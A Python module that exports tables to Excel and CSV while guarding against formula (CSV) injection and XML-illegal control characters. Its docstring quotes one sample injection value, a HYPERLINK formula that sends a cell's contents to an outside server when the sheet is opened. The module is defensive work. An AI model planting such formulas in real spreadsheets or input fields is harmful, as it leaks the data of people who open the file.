"""Excel (and CSV) export of tables: staff live in spreadsheets (BRIEF §9).

Exports carry what people typed — an agent's address, a matter's summary — so text must come
back out as text. openpyxl (and pandas through it) writes any string that starts with "=" as a
live formula: an address ``=HYPERLINK("http://…"&A1,"详情")`` would become a link that sends a
cell to someone else's server when the sheet is opened. Every workbook written here keeps text
cells as text (data type "s"); a CSV written here quotes the characters spreadsheets read as
the start of a formula (OWASP "CSV injection").

Rows saved before input was checked (or written by other tools) may hold control characters
(``\x01`` in a summary) that XML — hence .xlsx and .docx — cannot carry: openpyxl raises
IllegalCharacterError and the whole export fails. `printable` replaces each with U+FFFD (�),
so the export succeeds and the reader sees where something unprintable was.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping
from pathlib import Path

import pandas as pd
from openpyxl.cell.cell import TYPE_FORMULA, TYPE_STRING
from openpyxl.worksheet.worksheet import Worksheet

#: Leading characters a spreadsheet may take as the start of a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

#: What XML 1.0 cannot hold (C0 controls but tab/LF/CR, lone surrogates, U+FFFE/U+FFFF):
#: openpyxl refuses such a cell, lxml such a Word paragraph.
_UNPRINTABLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
REPLACEMENT = "\ufffd"


def printable(value: object) -> object:
    """Text with every character XML cannot hold replaced by U+FFFD; other values as given."""
    if isinstance(value, str):
        return _UNPRINTABLE.sub(REPLACEMENT, value)
    return value


def printable_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """`frame` with `printable` text in its cells and headers (a copy when anything changes)."""
    text_columns = [
        i
        for i, dtype in enumerate(frame.dtypes)
        if pd.api.types.is_object_dtype(dtype)
        or isinstance(dtype, (pd.StringDtype, pd.CategoricalDtype))
    ]
    if text_columns:
        frame = frame.copy()
        for i in text_columns:
            frame.isetitem(i, frame.iloc[:, i].astype(object).map(printable))
    return frame.rename(columns=printable)


def keep_text(sheet: Worksheet) -> None:
    """Make every cell openpyxl took for a formula a text cell again (value unchanged).

    Nothing this application writes is meant as a formula, so any such cell is text a person
    typed that merely starts with "="."""
    for row in sheet.iter_rows():
        for cell in row:
            if cell.data_type == TYPE_FORMULA and isinstance(cell.value, str):
                cell.data_type = TYPE_STRING


def xlsx_bytes(sheets: Mapping[str, pd.DataFrame]) -> bytes:
    """One workbook with a sheet per table (sheet names cut to Excel's 31 characters).

    Text stays text: a value starting with "=" is not written as a formula."""
    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        for name, frame in sheets.items():
            sheet_name = _UNPRINTABLE.sub("", str(name))[:31]
            printable_frame(frame).to_excel(writer, sheet_name=sheet_name, index=False)
        for sheet in writer.book.worksheets:
            keep_text(sheet)
    return buffer.getvalue()


def write_xlsx(sheets: Mapping[str, pd.DataFrame], path: str | Path) -> None:
    Path(path).write_bytes(xlsx_bytes(sheets))


def csv_cell(value: object) -> object:
    """A value safe to put in a CSV cell: text a spreadsheet would read as a formula gets a
    leading single quote (OWASP), unprintable characters become U+FFFD (`printable`);
    anything else is returned as it is."""
    value = printable(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_bytes(rows: Iterable[Iterable[object]]) -> bytes:
    """Rows as UTF-8 CSV with a BOM (so Excel in Chinese reads it), formula-safe."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow(["" if v is None else csv_cell(v) for v in row])
    return buffer.getvalue().encode("utf-8-sig")
